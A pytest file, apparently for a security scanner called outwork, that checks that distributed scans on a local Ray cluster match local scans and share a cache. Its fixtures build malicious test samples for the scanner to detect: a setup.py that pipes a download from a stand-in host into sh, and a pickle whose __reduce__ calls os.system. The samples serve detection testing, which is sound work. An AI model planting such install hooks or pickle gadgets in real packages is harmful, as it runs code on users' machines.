"""Scale-out on Ray: a scan on a local multi-process Ray cluster (started here, on loopback,
stopped after) gives the result the local engine gives on the same targets, shares the
driver's cache, and outwork without ``--ray`` never imports Ray."""

from __future__ import annotations

import io
import json
import os
import pickle
import shutil
import subprocess
import sys
import tarfile
import tempfile
import uuid
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

import outwork
from outwork.cli.main import run
from outwork.core.errors import UsageError
from outwork.core.findings import ScanResult
from outwork.report.json_report import render

FIXTURES = Path(__file__).resolve().parent / "fixtures" / "rules"
#: Ray gives a single-node cluster the machine's network address unless told that it is no
#: cluster of several machines: then everything listens on loopback only. The cluster's token
#: is the test's own (not one saved in the home folder).
LOOPBACK_ENV = {
    "RAY_ENABLE_WINDOWS_OR_OSX_CLUSTER": "0",
    "RAY_USAGE_STATS_ENABLED": "0",
    "RAY_AUTH_MODE": "token",
    "RAY_AUTH_TOKEN": uuid.uuid4().hex,
}

#: The head of a local cluster: prints its address, runs until its standard input closes.
HEAD = """
import sys, ray
ray.init(num_cpus=2, include_dashboard=False, object_store_memory=256 * 1024 * 1024,
         _temp_dir=sys.argv[1], log_to_driver=False)
print(ray.get_runtime_context().gcs_address, flush=True)
sys.stdin.read()
ray.shutdown()
"""


def _ray_available() -> None:
    try:
        import ray  # noqa: F401 - only whether the extra is installed
    except ImportError:
        if os.environ.get("CI") == "true":
            pytest.fail("ray is not installed, and CI=true requires it (pip install -e '.[ray]')")
        pytest.skip("ray is not installed (the ray extra)")


def _start_head(temp: str) -> tuple[subprocess.Popen[str], str]:
    """The head process and its address; tried three times, since Ray gives a node 30 s to
    register, which a loaded machine can miss."""
    for _ in range(3):
        head = subprocess.Popen(
            [sys.executable, "-c", HEAD, temp],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            stderr=subprocess.DEVNULL,
            text=True,
            env={**os.environ, **LOOPBACK_ENV},
        )
        assert head.stdout is not None
        address = head.stdout.readline().strip()
        if address.startswith("127.0.0.1:"):
            return head, address
        _stop_head(head)
    message = "the local Ray cluster did not start in three tries (Ray gives a node 30 s)"
    if os.environ.get("CI") == "true":
        pytest.fail(message)
    pytest.skip(message + "; the machine is too loaded")


def _stop_head(head: subprocess.Popen[str]) -> None:
    assert head.stdin is not None
    head.stdin.close()
    try:
        head.wait(timeout=60)
    except subprocess.TimeoutExpired:
        head.kill()
        head.wait()


@pytest.fixture(scope="module")
def cluster() -> Iterator[str]:
    """A two-CPU Ray cluster of this machine, its head in a child process of the test."""
    saved = {key: os.environ.get(key) for key in LOOPBACK_ENV}
    os.environ.update(LOOPBACK_ENV)  # before Ray is imported: it reads them once
    _ray_available()
    temp = tempfile.mkdtemp(prefix="owray")  # short: Ray's socket paths live under it
    head, address = _start_head(temp)
    try:
        yield address
    finally:
        _stop_head(head)
        shutil.rmtree(temp, ignore_errors=True)
        for key, value in saved.items():
            if value is None:
                os.environ.pop(key, None)
            else:
                os.environ[key] = value


def _targets(root: Path) -> list[str]:
    """The rule fixtures (files on disk, every layer) and archives whose members travel to the
    workers as bytes: an sdist whose setup.py downloads and runs code, a zip holding a pickle
    that calls os.system (built as bytes, never unpickled)."""
    sdist = root / "evil-1.0.tar.gz"
    setup = b"import os\nos.system('curl -s https://example.invalid/x | sh')\n"
    with tarfile.open(sdist, "w:gz") as tar:
        for name, data in (("evil-1.0/setup.py", setup), ("evil-1.0/PKG-INFO", b"Name: evil\n")):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))

    class Call:
        def __reduce__(self) -> tuple[Any, ...]:
            return (os.system, ("echo harmless",))

    with zipfile.ZipFile(root / "model.zip", "w") as zf:
        zf.writestr("archive/data.pkl", pickle.dumps(Call(), protocol=2))
    return [str(FIXTURES), str(sdist), str(root / "model.zip")]


def _comparable(result: ScanResult) -> dict[str, Any]:
    data = json.loads(render(result))
    data.pop("stats")
    return data


def test_a_scan_on_the_cluster_gives_the_local_result(cluster: str, tmp_path: Path) -> None:
    targets = _targets(tmp_path)
    # One data folder for both scans: a secret's keyed hash uses the installation's key, and
    # without one each scan makes its own (the same for every worker of that scan).
    data = tmp_path / "data"
    local = outwork.scan(targets, jobs=1, data_dir=data)
    distributed = outwork.scan(targets, jobs=1, ray=cluster, data_dir=data)
    assert distributed.stats.analyzed == local.stats.analyzed > 400
    prefixes = {f.code.rstrip("0123456789") for f in distributed.findings}
    assert {"PKG", "MDL", "CI", "IAM", "CRY", "VUL", "PATH"} <= prefixes  # every layer's work
    assert not distributed.errors
    assert _comparable(distributed) == _comparable(local)


def test_the_command_line_and_the_cache_on_the_cluster(cluster: str, tmp_path: Path) -> None:
    targets = _targets(tmp_path)
    argv = ["scan", *targets, "--no-config", "-f", "json", "-q", "--offline", "--fail-on", "none"]
    ray = ["--ray", cluster]
    reports = []
    cached = ["--cache-dir", str(tmp_path / "cache")]
    for extra in (
        ["--no-cache"],  # the local engine
        [*cached, *ray],  # the cluster fills a cache ...
        cached,  # ... that the local engine reads ...
        [*cached, *ray],  # ... and a scan on the cluster reads too
    ):
        out, err = io.StringIO(), io.StringIO()
        assert run([*argv, *extra], out, err) == 0, err.getvalue()
        reports.append(json.loads(out.getvalue()))
    hits = [report.pop("stats")["cache_hits"] for report in reports]
    assert hits[0] == hits[1] == 0
    assert hits[2] == hits[3] > 300  # what the cache keeps (small files are analysed again)
    assert all(report == reports[0] for report in reports)


def test_without_ray_the_option_says_how_to_install_it(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    (tmp_path / "a.py").write_text("import os\n")
    monkeypatch.setitem(sys.modules, "ray", None)  # as if the extra were not installed
    monkeypatch.delitem(sys.modules, "outwork.engine.distributed", raising=False)
    with pytest.raises(UsageError, match=r"pip install 'outwork\[ray\]'"):
        outwork.scan(tmp_path, ray="local")


def test_a_found_configuration_cannot_send_the_scan_to_a_cluster(tmp_path: Path) -> None:
    """A configuration file found beside the scanned content may belong to it: its ray address
    would send the content's bytes to the attacker's machines."""
    (tmp_path / "outwork.toml").write_text('ray = "203.0.113.9:6379"\n')
    (tmp_path / "a.py").write_text("import os\n")
    out, err = io.StringIO(), io.StringIO()
    assert run(["scan", str(tmp_path), "--no-cache", "-f", "json"], out, err) == 0
    assert "its ray address is not used" in err.getvalue()
    assert "ray" not in sys.modules or not _connected()


def _connected() -> bool:
    import ray

    return bool(ray.is_initialized())


def test_outwork_never_imports_ray_without_it(tmp_path: Path) -> None:
    (tmp_path / "a.py").write_text("import os\n")
    code = (
        "import sys, io\n"
        "import outwork\n"
        "from outwork.cli.main import run\n"
        f"run(['scan', {str(tmp_path)!r}, '-f', 'json', '--no-cache', '--offline'],"
        " io.StringIO(), io.StringIO())\n"
        f"outwork.scan({str(tmp_path)!r}, jobs=1)\n"
        "print('ray' in sys.modules)\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, timeout=120, check=False
    )
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == "False"


def test_a_worker_not_forked_from_the_scan_finds_what_the_scan_finds(tmp_path: Path) -> None:
    """A Ray worker starts from nothing: the engine's batch function, in a fresh interpreter,
    loads what the analyzers need (the crypto layer's checks register with its rule modules)."""
    local = outwork.scan(FIXTURES, jobs=1, select=["CRY"])
    code = (
        "import sys, pickle\n"
        "from outwork.core.analyzer import AnalysisContext\n"
        "from outwork.core.artifact import Artifact\n"
        "from outwork.engine.pipeline import _analyze_batch\n"
        "from outwork.sources import Budgets, open_target\n"
        f"items = open_target({str(FIXTURES)!r}, Budgets())\n"
        "arts = [a for a in items if isinstance(a, Artifact)]\n"
        "out = _analyze_batch([(a, ('crypto',)) for a in arts], AnalysisContext())\n"
        "print(' '.join(sorted({f.code for o in out for f in o.findings})))\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, timeout=120, check=False
    )
    assert done.returncode == 0, done.stderr
    codes = {f.code for f in local.findings if f.code.startswith("CRY")}
    assert codes and codes <= set(done.stdout.split())  # the scan folds some of them later
